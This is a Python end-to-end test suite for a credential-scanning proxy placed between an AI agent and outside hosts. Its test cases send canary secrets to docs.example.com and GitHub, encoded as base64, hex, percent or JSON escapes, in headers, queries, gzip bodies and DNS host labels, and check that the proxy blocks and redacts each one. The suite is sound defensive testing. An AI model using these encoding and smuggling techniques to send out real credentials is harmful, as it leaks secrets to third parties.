"""Credential exfiltration end to end: a reflecting upstream never gets the credential to the agent, and an agent
that holds one anyway can send it nowhere.

A fake GitHub reflects the injected credential in base64 (every alignment), hex, URL- and JSON-escaped, in
Location, Set-Cookie and other headers and in a body split into small chunks; the agent must see none of it.
Then the agent sends the real value, in each encoding, in a header, the query or the body, to an egress host and
to an allowed connector: refused before anything reaches the upstream, audited as critical.
"""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from collections.abc import Callable, Iterator

import httpx
import pytest

from dataplane.credscan import MARK, Matcher
from tests.fake_upstream import Received, Reply
from tests.proxy_world import World, proxy_world

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]


def _reflect(received: Received) -> Reply | None:
    """An upstream that hands the credential it was given back in every disguise, split across small chunks."""
    if not received.path.startswith("/repos/reflect/"):
        return None
    secret = received.headers.get("authorization", "").removeprefix("Bearer ").encode()
    forms = [
        base64.b64encode(secret),
        base64.b64encode(b"x" + secret),
        base64.urlsafe_b64encode(b"xy" + secret).rstrip(b"="),
        base64.b64encode(b"x-access-token:" + secret),
        secret.hex().encode(),
        urllib.parse.quote(base64.b64encode(b"u:" + secret)).encode(),
        "".join(f"\\u{b:04x}" for b in secret).encode(),  # JSON with every character escaped
    ]
    body = b'{"reflected": ["' + b'", "'.join(forms) + b'"]}'
    headers = {
        "Content-Type": "application/json",
        "Location": "https://docs.example.com/callback?token=" + urllib.parse.quote(forms[1].decode(), safe=""),
        "Set-Cookie": f"session={forms[2].decode()}; Path=/; HttpOnly",
        "X-Basic": "Basic " + forms[3].decode(),
        "X-Hex": forms[4].decode(),
    }
    return Reply(200, headers, [body[i : i + 7] for i in range(0, len(body), 7)])


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with proxy_world(tmp_path_factory.mktemp("exfil")) as w:
        w.upstream.responders.insert(0, _reflect)
        yield w


def client(world: World) -> httpx.Client:
    return httpx.Client(proxy=world.proxy_url, verify=world.tls(), timeout=30)


def test_a_reflected_credential_reaches_the_agent_in_no_encoding_header_or_chunk(world: World) -> None:
    canary = world.canaries["github"]
    with client(world) as agent:
        reply = agent.get("https://api.github.com/repos/reflect/all", headers={"Authorization": "Bearer placeholder"})
    assert reply.status_code == 200
    oracle = Matcher([canary])
    seen = b"\n".join(n + b": " + v for n, v in reply.headers.raw) + b"\n\n" + reply.content
    assert oracle.first(seen) is None, "the agent saw the credential"
    assert reply.content.count(MARK) == 7  # each form of the body, across the chunk boundaries
    for name in ("location", "set-cookie", "x-basic", "x-hex"):
        assert MARK.decode() in reply.headers[name], name


def test_a_credential_read_back_from_an_egress_host_is_redacted_too(world: World) -> None:
    """A connector's upstream may have put the credential somewhere the agent then reads through egress."""
    canary = world.canaries["github"]

    def stash(received: Received) -> Reply | None:
        if received.headers.get("host") != "docs.example.com" or received.path != "/stash":
            return None
        body = b"found: " + base64.b64encode(b"ab" + canary) + b" and " + canary
        return Reply(200, {"Content-Type": "text/plain", "Location": "/?k=" + canary.hex()}, [body[:13], body[13:]])

    world.upstream.responders.insert(0, stash)
    with client(world) as agent:
        reply = agent.get("https://docs.example.com/stash")
    assert reply.status_code == 200
    oracle = Matcher([canary])
    assert oracle.first(reply.content) is None and oracle.first(reply.headers["location"].encode()) is None
    assert reply.content.count(MARK) == 2


ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda s: s,
    "basic": lambda s: base64.b64encode(b"x-access-token:" + s),
    "base64url-1": lambda s: base64.urlsafe_b64encode(b"x" + s).rstrip(b"="),
    "base64-2": lambda s: base64.b64encode(b"ab" + s),
    "hex": lambda s: s.hex().encode(),
    "HEX": lambda s: s.hex().upper().encode(),
    "percent-every-byte": lambda s: "".join(f"%{b:02X}" for b in s).encode(),
    "json-escaped": lambda s: "".join(f"\\u{b:04x}" for b in s).encode(),
}


def refused_with_nothing_sent(world: World, send: Callable[[httpx.Client], httpx.Response]) -> dict[str, object]:
    mark = len(world.upstream.received)
    with client(world) as agent:
        reply = send(agent)
    assert reply.status_code == 403, reply.text
    problem = reply.json()
    assert problem["type"] == "urn:aileron:problem:credential-in-request"
    assert world.received_since(mark) == [], "the upstream received something"
    return dict(problem)


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("place", ["header", "query", "body", "gzip-body", "connector-body", "connector-header"])
def test_the_agent_cannot_send_a_credential_it_obtained_anywhere(world: World, encoding: str, place: str) -> None:
    secret = world.canaries["openai"]
    value = ENCODINGS[encoding](secret)
    text = value.decode()
    sends = {
        "header": lambda a: a.get("https://docs.example.com/x", headers={"X-Note": text}),
        "query": lambda a: a.get("https://docs.example.com/x", params={"q": text}),
        "body": lambda a: a.post("https://docs.example.com/x", content=b'{"note": "' + value + b'"}'),
        "gzip-body": lambda a: a.post(
            "https://docs.example.com/x", content=gzip.compress(value), headers={"Content-Encoding": "gzip"}
        ),
        "connector-body": lambda a: a.post(
            "https://api.github.com/repos/acme/app/issues",
            content=json.dumps({"title": "notes", "body": text}).encode(),
            headers={"Authorization": "Bearer placeholder", "Content-Type": "application/json"},
        ),
        "connector-header": lambda a: a.get(
            "https://api.github.com/repos/acme/app", headers={"Authorization": "Bearer " + text}
        ),
    }
    problem = refused_with_nothing_sent(world, sends[place])
    assert secret.decode() not in json.dumps(problem)
    records = world.audit_wait(
        lambda rs: any(r["id"] == problem["request_id"] for r in rs), severity="critical", session=world.session_id
    )
    [record] = [r for r in records if r["id"] == problem["request_id"]]
    assert record["severity"] == "critical" and record["decision"] == "deny"
    assert record["problem_type"] == "credential-in-request"
    assert record["credential_id"]  # which credential the agent holds: the one to rotate
    assert secret.decode() not in json.dumps(record) and text not in json.dumps(record)


def test_a_credential_in_the_host_name_is_refused_before_it_is_resolved(world: World) -> None:
    hexed = world.canaries["openai"].hex()
    labels = f"{hexed[:40]}.{hexed[40:]}"  # a DNS label holds 63 characters: split over two
    problem = refused_with_nothing_sent(world, lambda a: a.get(f"https://{labels}.docs.example.com/"))
    assert hexed[:40] not in json.dumps(problem)
    records = world.audit_wait(lambda rs: any(r["id"] == problem["request_id"] for r in rs), severity="critical")
    assert hexed[:40] not in json.dumps(records)


def test_a_chunked_egress_body_is_refused_before_a_byte_is_sent(world: World) -> None:
    mark = len(world.upstream.received)
    secret = world.canaries["openai"]

    def chunks() -> Iterator[bytes]:
        yield b"harmless start "
        yield secret

    with client(world) as agent:
        reply = agent.post("https://docs.example.com/upload", content=chunks())
    assert reply.status_code == 411
    assert world.received_since(mark) == []


def test_ordinary_egress_and_connector_requests_still_go_through(world: World) -> None:
    mark = len(world.upstream.received)
    with client(world) as agent:
        posted = agent.post("https://docs.example.com/x", json={"note": "nothing secret", "n": 1})
        issue = agent.post(
            "https://api.github.com/repos/acme/app/issues",
            json={"title": "t", "body": "b"},
            headers={"Authorization": "Bearer placeholder"},
        )
    assert posted.status_code == 201 and issue.status_code == 201
    egress, github = world.received_since(mark)
    assert json.loads(egress.body) == {"note": "nothing secret", "n": 1}
    assert github.headers["authorization"] == f"Bearer {world.canaries['github'].decode()}"
